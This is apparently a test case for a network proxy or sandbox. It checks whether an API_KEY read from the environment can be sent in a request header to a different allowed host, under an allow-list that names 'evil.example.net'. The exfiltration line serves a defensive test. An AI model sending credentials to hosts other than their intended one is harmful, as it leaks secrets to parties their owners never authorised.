# /// attack
# guarantee = "network"
# summary = "Sends a secret to another listed host, by the proxy."
# reference = "RFC 6750"
# success = "that server gets the value"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy the secret API_KEY goes only to" }
# ///

import os

from kit import get, judge

KEY = os.environ["API_KEY"]
judge(get("other.example.org", "/", f"X-Api-Key: {KEY}"))
